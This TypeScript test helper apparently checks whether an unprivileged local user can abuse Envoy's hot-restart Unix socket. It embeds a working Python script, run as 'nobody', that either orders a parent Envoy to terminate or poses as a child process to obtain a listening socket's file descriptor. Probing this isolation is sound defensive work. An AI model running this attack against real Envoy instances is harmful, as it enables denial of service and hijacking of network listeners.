import { execFileSync } from "node:child_process";

/** Nobody's user. */
const STRANGER = 65_534;

/** Prints "sent", "got N" (descriptors), "no answer", or the error. */
const program = `
import array, os, socket, struct, sys
what, parent, child, address = sys.argv[1:5]
def name(text):
    return b"\\0" + text[1:].encode().ljust(107, b"\\0") if text.startswith("@") else text
def message(*fields):
    body = b""
    for field in reversed(fields):
        body = bytes([field << 3 | 2, len(body)]) + body
    return struct.pack(">Q", len(body)) + body
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.settimeout(5)
try:
    if what == "terminate":
        s.sendto(message(1, 5), name(parent))
        print("sent")
    else:
        s.bind(name(child))
        inner = b"\\x0a" + bytes([len(address)]) + address.encode()
        body = b"\\x0a" + bytes([len(inner)]) + inner
        body = b"\\x0a" + bytes([len(body)]) + body
        s.sendto(struct.pack(">Q", len(body)) + body, name(parent))
        data, control, flags, _ = s.recvmsg(65536, 1024)
        print("got", sum(len(one[2]) // 4 for one in control))
except socket.timeout:
    print("no answer")
except OSError as error:
    print(type(error).__name__, os.strerror(error.errno))
`;

export interface Target {
  /** Name of the attacked Envoy's socket, "@..." for an abstract one. */
  readonly parent: string;
  /** Name under which its next child would ask. */
  readonly child: string;
  /** Of the listen socket to take: "tcp://127.0.0.1:80". */
  readonly address: string;
}

/**
 * What another user of the same network namespace without any capability gets who tells Envoy to end ("terminate") or
 * asks for a listen socket ("take"), in Envoy's own protocol.
 */
export function attack(what: "terminate" | "take", { parent, child, address }: Target): string {
  const user = ["--reuid", String(STRANGER), "--regid", String(STRANGER), "--clear-groups", "--bounding-set=-all"];
  const words = [...user, "--", "/usr/bin/python3", "-c", program, what, parent, child, address];
  return execFileSync("setpriv", words, { encoding: "utf8", cwd: "/" }).trim();
}
